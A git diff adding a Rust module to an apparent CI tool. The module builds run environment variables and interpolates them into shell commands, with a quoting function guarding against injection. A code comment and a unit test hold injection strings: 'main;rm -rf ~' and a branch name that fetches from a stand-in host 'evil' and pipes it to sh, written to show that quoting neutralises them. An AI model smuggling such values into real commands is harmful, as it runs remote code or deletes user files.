@@ -0,0 +1,262 @@
+use crate::repo::Repo;
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::PathBuf;
+
+// Short names usable as ${NAME} in `run` strings, alongside any step env variable
+const ALIASES: [(&str, &str); 7] = [
+    ("REPO", "PHANTOM_CI_REPO"),
+    ("BRANCH", "PHANTOM_CI_BRANCH"),
+    ("SHA", "PHANTOM_CI_SHA"),
+    ("SHORT_SHA", "PHANTOM_CI_SHORT_SHA"),
+    ("PREVIOUS_SHA", "PHANTOM_CI_PREVIOUS_SHA"),
+    ("RUN_ID", "PHANTOM_CI_RUN_ID"),
+    ("WORKSPACE", "PHANTOM_CI_WORKSPACE"),
+];
+
+// Information about the current run that is exposed to every step
+#[derive(Debug, Clone)]
+pub struct RunContext {
+    pub repo: String,
+    pub branch: String,
+    pub sha: String,
+    pub previous_sha: String,
+    pub run_id: Option<i64>,
+    pub workspace: String,
+    pub temp_dir: PathBuf,
+    // Values of the current [matrix] combination
+    pub matrix: BTreeMap<String, String>,
+}
+
+impl RunContext {
+    pub fn new(repo: &Repo, run_id: Option<i64>) -> RunContext {
+        let temp_name = match run_id {
+            Some(id) => format!("phantom_ci-run-{}", id),
+            None => format!("phantom_ci-run-{}", rand::random::<u32>()),
+        };
+        RunContext {
+            repo: repo.path.clone(),
+            branch: repo.target_branch.clone(),
+            sha: repo.last_sha.clone().unwrap_or_default(),
+            previous_sha: repo
+                .previous_shas
+                .get(&repo.target_branch)
+                .cloned()
+                .unwrap_or_default(),
+            run_id,
+            workspace: repo.work_dir.clone(),
+            temp_dir: std::env::temp_dir().join(temp_name),
+            matrix: BTreeMap::new(),
+        }
+    }
+
+    // Create the per-run temp dir handed to steps as PHANTOM_CI_TEMP
+    pub fn prepare(&self) {
+        if let Err(e) = fs::create_dir_all(&self.temp_dir) {
+            eprintln!(
+                "Failed to create run temp dir {}: {}",
+                self.temp_dir.display(),
+                e
+            );
+        }
+    }
+
+    pub fn cleanup(&self) {
+        let _ = fs::remove_dir_all(&self.temp_dir);
+    }
+
+    pub fn env(&self) -> BTreeMap<String, String> {
+        let short_sha = self.sha.get(..8).unwrap_or(self.sha.as_str());
+        let mut env = BTreeMap::from([
+            ("CI".to_string(), "true".to_string()),
+            ("PHANTOM_CI".to_string(), "true".to_string()),
+            ("PHANTOM_CI_REPO".to_string(), self.repo.clone()),
+            ("PHANTOM_CI_BRANCH".to_string(), self.branch.clone()),
+            ("PHANTOM_CI_SHA".to_string(), self.sha.clone()),
+            ("PHANTOM_CI_SHORT_SHA".to_string(), short_sha.to_string()),
+            ("PHANTOM_CI_PREVIOUS_SHA".to_string(), self.previous_sha.clone()),
+            (
+                "PHANTOM_CI_RUN_ID".to_string(),
+                self.run_id.map(|id| id.to_string()).unwrap_or_default(),
+            ),
+            ("PHANTOM_CI_WORKSPACE".to_string(), self.workspace.clone()),
+            (
+                "PHANTOM_CI_TEMP".to_string(),
+                self.temp_dir.to_string_lossy().to_string(),
+            ),
+        ]);
+        for (key, value) in self.matrix.iter() {
+            env.insert(matrix_var(key), value.clone());
+        }
+        env
+    }
+}
+
+// Environment name of a matrix variable: toolchain -> MATRIX_TOOLCHAIN
+pub fn matrix_var(key: &str) -> String {
+    let name: String = key
+        .chars()
+        .map(|c| if c.is_ascii_alphanumeric() { c.to_ascii_uppercase() } else { '_' })
+        .collect();
+    format!("MATRIX_{}", name)
+}
+
+// Matrix keys that would share an environment variable, e.g. `target-os` and `target_os`
+pub fn matrix_collisions<'a>(keys: impl IntoIterator<Item = &'a String>) -> Vec<String> {
+    let mut seen: BTreeMap<String, &String> = BTreeMap::new();
+    let mut problems = vec![];
+    for key in keys {
+        let var = matrix_var(key);
+        match seen.get(&var) {
+            Some(other) => problems.push(format!(
+                "matrix keys '{}' and '{}' are both {}",
+                other, key, var
+            )),
+            None => {
+                seen.insert(var, key);
+            }
+        }
+    }
+    problems
+}
+
+// Replace ${NAME} references using the step env, the short aliases above and
+// ${matrix.key} for matrix variables.
+// Unknown names are left untouched so the command still shows what was meant.
+// Values are inserted as-is, so only use this on a single argv word.
+pub fn interpolate(input: &str, env: &BTreeMap<String, String>) -> String {
+    substitute(input, env, |value| value.to_string())
+}
+
+// Like `interpolate`, for text a shell will parse: each value is single-quoted so a branch
+// name such as `main;rm -rf ~` stays one literal word.
+pub fn interpolate_quoted(input: &str, env: &BTreeMap<String, String>) -> String {
+    substitute(input, env, |value| {
+        // Only a NUL byte cannot be quoted, and none can reach us through git or the env
+        shlex::try_quote(value)
+            .map(|quoted| quoted.to_string())
+            .unwrap_or_default()
+    })
+}
+
+fn substitute(
+    input: &str,
+    env: &BTreeMap<String, String>,
+    render: impl Fn(&str) -> String,
+) -> String {
+    let lookup = |name: &str| -> Option<&String> {
+        if let Some(key) = name.strip_prefix("matrix.") {
+            return env.get(&matrix_var(key));
+        }
+        env.get(name).or_else(|| {
+            ALIASES
+                .iter()
+                .find(|(alias, _)| *alias == name)
+                .and_then(|(_, full)| env.get(*full))
+        })
+    };
+
+    let mut out = String::with_capacity(input.len());
+    let mut rest = input;
+    while let Some(start) = rest.find("${") {
+        out.push_str(&rest[..start]);
+        let after = &rest[start + 2..];
+        match after.find('}') {
+            Some(end) => {
+                let name = &after[..end];
+                match lookup(name) {
+                    Some(value) => out.push_str(&render(value)),
+                    None => out.push_str(&rest[start..start + 3 + end]),
+                }
+                rest = &after[end + 1..];
+            }
+            None => {
+                out.push_str(&rest[start..]);
+                rest = "";
+            }
+        }
+    }
+    out.push_str(rest);
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn context() -> RunContext {
+        let mut repo = Repo::new(
+            "repo".into(),
+            "git@example.com:org/repo".into(),
+            "/tmp/phantom_ci-test".into(),
+            Some("0123456789abcdef".into()),
+            "main".into(),
+        );
+        repo.previous_shas
+            .insert("main".into(), "fedcba9876543210".into());
+        RunContext::new(&repo, Some(7))
+    }
+
+    #[test]
+    fn test_context_env() {
+        let env = context().env();
+        assert_eq!(env["CI"], "true");
+        assert_eq!(env["PHANTOM_CI_BRANCH"], "main");
+        assert_eq!(env["PHANTOM_CI_SHA"], "0123456789abcdef");
+        assert_eq!(env["PHANTOM_CI_PREVIOUS_SHA"], "fedcba9876543210");
+        assert_eq!(env["PHANTOM_CI_RUN_ID"], "7");
+        assert!(env["PHANTOM_CI_TEMP"].ends_with("phantom_ci-run-7"));
+    }
+
+    #[test]
+    fn test_matrix_env() {
+        let mut context = context();
+        context.matrix.insert("toolchain".into(), "beta".into());
+        context.matrix.insert("target-os".into(), "linux".into());
+        let env = context.env();
+        assert_eq!(env["MATRIX_TOOLCHAIN"], "beta");
+        assert_eq!(env["MATRIX_TARGET_OS"], "linux");
+        assert_eq!(
+            interpolate("rustup run ${matrix.toolchain} cargo test --target-os ${MATRIX_TARGET_OS}", &env),
+            "rustup run beta cargo test --target-os linux"
+        );
+    }
+
+    #[test]
+    fn test_matrix_collisions() {
+        let keys: Vec<String> = vec!["OS".into(), "os".into(), "target-os".into(), "target_os".into()];
+        assert_eq!(
+            matrix_collisions(&keys),
+            vec![
+                "matrix keys 'OS' and 'os' are both MATRIX_OS",
+                "matrix keys 'target-os' and 'target_os' are both MATRIX_TARGET_OS",
+            ]
+        );
+        assert!(matrix_collisions(&keys[1..3]).is_empty());
+    }
+
+    #[test]
+    fn test_interpolate() {
+        let mut env = context().env();
+        env.insert("IMAGE".into(), "registry.example.com/app".into());
+        assert_eq!(
+            interpolate("docker build -t ${IMAGE}:${BRANCH}-${SHORT_SHA} .", &env),
+            "docker build -t registry.example.com/app:main-01234567 ."
+        );
+        assert_eq!(interpolate("echo ${PHANTOM_CI_RUN_ID}", &env), "echo 7");
+        assert_eq!(interpolate("echo ${UNKNOWN} ${", &env), "echo ${UNKNOWN} ${");
+    }
+
+    #[test]
+    fn test_interpolate_quoted() {
+        let mut env = context().env();
+        env.insert("PHANTOM_CI_BRANCH".into(), "main;curl${IFS}evil|sh".into());
+        assert_eq!(
+            interpolate_quoted("git push origin ${BRANCH} && echo ${SHORT_SHA}", &env),
+            "git push origin 'main;curl${IFS}evil|sh' && echo 01234567"
+        );
+        env.insert("PHANTOM_CI_BRANCH".into(), "it's".into());
+        let quoted = interpolate_quoted("echo ${BRANCH}", &env);
+        assert_eq!(shlex::split(&quoted).unwrap(), vec!["echo", "it's"]);
+    }
+}